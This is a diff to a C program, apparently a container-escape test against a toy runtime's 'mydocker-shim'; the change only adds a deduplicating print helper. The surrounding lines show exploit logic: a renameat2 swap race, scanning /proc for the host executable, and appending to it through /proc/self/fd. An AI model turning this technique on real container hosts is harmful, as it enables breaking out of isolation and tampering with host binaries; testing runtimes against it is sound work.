@@ -20,6 +20,20 @@ static dev_t host_device;
 static ino_t host_inode;
 static int host_file = -1;
 
+// Once is enough of each.
+static void say(const char *what, const char *more) {
+  static char said[64][400];
+  char line[400];
+  snprintf(line, sizeof line, "%s%.300s\n", what, more);
+  for (size_t i = 0; i < sizeof said / sizeof *said; i++) {
+    if (strcmp(said[i], line) == 0) return;
+    if (said[i][0] != '\0') continue;
+    memcpy(said[i], line, sizeof line);
+    break;
+  }
+  fputs(line, stdout);
+}
+
 static int flip(const char *one, const char *other) {
   for (;;) {
     if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0) return perror("rename"), 1;
@@ -32,7 +46,7 @@ static void overwrite(void) {
   snprintf(path, sizeof path, "/proc/self/fd/%d", host_file);
   int fd = open(path, O_WRONLY | O_APPEND);
   if (fd < 0) return;
-  if (write(fd, "overwritten", 11) == 11) printf("wrote to the host's executable\n");
+  if (write(fd, "overwritten", 11) == 11) say("wrote to the host's executable", "");
   close(fd);
   close(host_file);
   host_file = -1;
@@ -44,11 +58,11 @@ static void look_at_executable(const char *process) {
   snprintf(path, sizeof path, "%s/exe", process);
   ssize_t length = readlink(path, link, sizeof link - 1);
   if (length < 0) return;
-  if (strstr(link, "mydocker-shim") != NULL) printf("the shim could be looked into: %s\n", link);
+  if (strstr(link, "mydocker-shim") != NULL) say("the shim could be looked into: ", link);
   int fd = open(path, O_RDONLY);
   if (fd < 0) return;
   if (fstat(fd, &status) == 0 && status.st_ino == host_inode && status.st_dev == host_device) {
-    printf("reached the host's executable\n");
+    say("reached the host's executable", "");
     if (host_file < 0) host_file = dup(fd);
   }
   close(fd);
@@ -59,7 +73,7 @@ static void look_from(const char *where) {
   int fd = open(where, O_PATH | O_DIRECTORY);
   if (fd < 0) return;
   strncat(path, canary, sizeof path - strlen(path) - 1);
-  if (faccessat(fd, path, F_OK, 0) == 0) printf("reached the host's files through %s\n", where);
+  if (faccessat(fd, path, F_OK, 0) == 0) say("reached the host's files through ", strrchr(where, '/'));
   close(fd);
 }
 
@@ -102,7 +116,7 @@ static int look(void) {
     }
     closedir(processes);
     if (host_file >= 0) overwrite();
-    if (first) printf("looking\n");
+    if (first) say("looking", "");
   }
 }
 
